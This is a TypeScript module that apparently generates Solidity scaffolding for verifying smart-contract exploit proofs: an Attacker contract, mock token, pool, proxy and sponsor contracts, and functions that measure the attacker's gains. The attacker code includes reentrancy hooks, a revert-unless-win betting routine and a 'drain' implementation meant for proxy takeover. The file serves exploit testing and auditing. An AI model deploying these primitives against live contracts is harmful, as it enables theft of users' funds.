/** The cheatcodes of a proof: none of them changes the storage or the code of a contract. */
export const cheatcodes = `interface Vm {
    function prank(address sender) external;
    function prank(address sender, address origin) external;
    function deal(address account, uint256 balance) external;
    function warp(uint256 timestamp) external;
    function roll(uint256 number) external;
    function prevrandao(bytes32 value) external;
    function load(address account, bytes32 slot) external view returns (bytes32);
}`;

const reentry = `
    address private target;
    bytes private again;
    uint256 private left;

    /// Calls the target again, this many times, while it is still paying.
    function reenter(address target_, bytes calldata again_, uint256 times) external {
        (target, again, left) = (target_, again_, times);
    }

    function reenterOnce() private {
        if (gasleft() < 10_000 || left == 0) return;
        left--;
        (bool ok, ) = target.call(again);
        ok;
    }

    receive() external payable {
        reenterOnce();
    }

    fallback() external payable {
        reenterOnce();
    }

    function tokensReceived(address, address, address, uint256, bytes calldata, bytes calldata) external {
        reenterOnce();
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        reenterOnce();
        return this.onERC721Received.selector;
    }
`;

const gambling = `
    /// Makes a bet that is undone if it does not win at once.
    function gamble(address to, uint256 value, bytes calldata data) external returns (bool won) {
        try this.bet(to, value, data) {
            won = true;
        } catch {}
    }

    function bet(address to, uint256 value, bytes calldata data) external {
        uint256 balance = address(this).balance;
        (bool ok, ) = to.call{value: value, gas: 10_000_000}(data);
        require(ok && address(this).balance > balance, "lost");
    }
`;

const foreignCode = `
    /// Runs as the victim's own code.
    function drain(address to) external {
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok, "not drained");
    }

    function proxiableUUID() external pure returns (bytes32) {
        return bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1);
    }
`;

/** The attacker's contract, with the abilities that the code of the test mentions. */
export function writeAttacker(uses: (word: string) => boolean): string {
  return `contract Attacker {
    function run(address to, uint256 value, bytes calldata data) external returns (bool ok) {
        (ok, ) = to.call{value: value, gas: 10_000_000}(data);
    }
${uses("gamble(") ? gambling : ""}${uses("drain(") ? foreignCode : ""}${uses("reenter(") ? reentry : "\n    receive() external payable {}\n"}}`;
}

/** Used for every address that must be a contract: it accepts calls that it does not know, and answers nothing. */
export const tokenContract = `/// A token that returns false instead of reverting, and tells receivers about tokens that are sent to them.
contract Token {
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
        totalSupply += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] < amount || !move(from, to, amount)) return false;
        allowance[from][msg.sender] -= amount;
        return true;
    }

    function send(address to, uint256 amount, bytes calldata data) external {
        require(move(msg.sender, to, amount), "too little");
        (bool ok, ) = to.call(
            abi.encodeWithSignature(
                "tokensReceived(address,address,address,uint256,bytes,bytes)", msg.sender, msg.sender, to, amount, data, data
            )
        );
        ok;
    }

    function move(address from, address to, uint256 amount) private returns (bool) {
        if (balanceOf[from] < amount) return false;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    fallback() external payable {}
}`;

/** A pool with constant product. Its price is what it holds at that moment. */
export const poolContract = `/// A pool without fees. The tokens of a trade are borrowed and given back in the same transaction.
contract Pool {
    uint112 private reserve0 = 1_000 ether;
    uint112 private reserve1 = 1_000 ether;

    function getReserves() external view returns (uint112, uint112, uint32) {
        return (reserve0, reserve1, uint32(block.timestamp));
    }

    function buy0(uint112 amount1) external {
        uint256 product = uint256(reserve0) * reserve1;
        reserve1 += amount1;
        reserve0 = uint112(product / reserve1);
    }

    function buy1(uint112 amount0) external {
        uint256 product = uint256(reserve0) * reserve1;
        reserve0 += amount0;
        reserve1 = uint112(product / reserve0);
    }
}`;

/** Sends Ether to a contract that has no function to receive it: the EVM does not ask. */
export const sponsorContract = `contract Sponsor {
    constructor(address payable to) payable {
        selfdestruct(to);
    }
}`;

export const proxyContract = `contract Proxy {
    bytes32 private constant slot = bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1);

    constructor(address implementation) {
        bytes32 slot_ = slot;
        assembly { sstore(slot_, implementation) }
    }

    fallback() external payable {
        bytes32 slot_ = slot;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(slot_), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    receive() external payable {}
}`;

/** Measures of what the attacker gained since \`mark\`, by goal. */
export const measures = {
  ether: `    function gained() internal view returns (uint256) {
        uint256 now_ = address(attacker).balance + address(accomplice).balance;
        return now_ > etherBefore ? now_ - etherBefore : 0;
    }`,
  tokens: `    function gained() internal view returns (uint256) {
        uint256 now_ = token.balanceOf(address(attacker)) + token.balanceOf(address(accomplice));
        return now_ > tokensBefore ? now_ - tokensBefore : 0;
    }`,
  shares: `    function gained() internal view returns (uint256) {
        uint256 now_ = shares();
        return now_ > sharesBefore ? now_ - sharesBefore : 0;
    }`,
  ownership: `    /// The number of storage slots that held the owner's address before the attack, and hold the attacker's now.
    function gained() internal view returns (uint256 taken) {
        for (uint256 i; i < 16; i++) {
            bytes32 slot = vm.load(victim, bytes32(i));
            if (holds(slotsBefore[i], owner) && !holds(slot, owner) && holds(slot, address(attacker))) taken++;
        }
    }

    function holds(bytes32 slot, address account) internal pure returns (bool) {
        for (uint256 shift; shift <= 96; shift += 8) {
            if (address(uint160(uint256(slot) >> shift)) == account) return true;
        }
        return false;
    }`,
  acceptance: `    function gained() internal view returns (uint256) {
        return accepted ? 1 : 0;
    }`,
};

export const sharesFunction = `    function shares() internal view returns (uint256) {
        (bool ok, bytes memory result) = victim.staticcall{gas: 1_000_000}(
            abi.encodeWithSignature("balanceOf(address)", address(attacker))
        );
        return ok && result.length == 32 ? abi.decode(result, (uint256)) : 0;
    }`;

export const listFunctions = `    function list(address item) internal pure returns (address[] memory items) {
        items = new address[](1);
        items[0] = item;
    }

    function list(uint256 item) internal pure returns (uint256[] memory items) {
        items = new uint256[](1);
        items[0] = item;
    }`;
